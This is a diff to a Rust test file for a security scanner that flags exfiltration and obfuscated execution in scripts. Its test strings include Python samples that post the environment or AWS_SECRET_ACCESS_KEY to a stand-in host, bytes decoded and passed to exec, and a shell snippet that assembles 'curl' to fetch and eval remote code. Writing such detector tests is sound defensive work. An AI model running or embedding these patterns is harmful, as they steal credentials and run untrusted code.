@@ -139,6 +139,8 @@ fn names_that_are_split_or_turned_are_read() {
     let turned =
         "import os, requests\ne = getattr(os, 'norivne'[::-1])\nrequests.post('https://in.invalid', json=dict(e))\n";
     assert_eq!(scan_files(&[("scripts/a.py", turned)]).verdict(), Verdict::Block);
+    let shadowed = "import os, requests\nkey = 'a'\ndef send(key):\n    requests.post('https://in.invalid/' + key)\nsend(os.environ['AWS_SECRET_ACCESS_KEY'])\n";
+    assert_eq!(scan_files(&[("scripts/a.py", shadowed)]).verdict(), Verdict::Block, "a name may have two values");
     let numbers = "x = bytes([105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109])\nexec(x)\n";
     assert!(fires(&scan_files(&[("scripts/a.py", numbers)]), "flow-decoded-run"));
     let shell = "A=cur; B=l; H=https://in.invalid\nC=\"$A$B\"\nS=$($C -s $H/a)\neval \"$S\"\n";
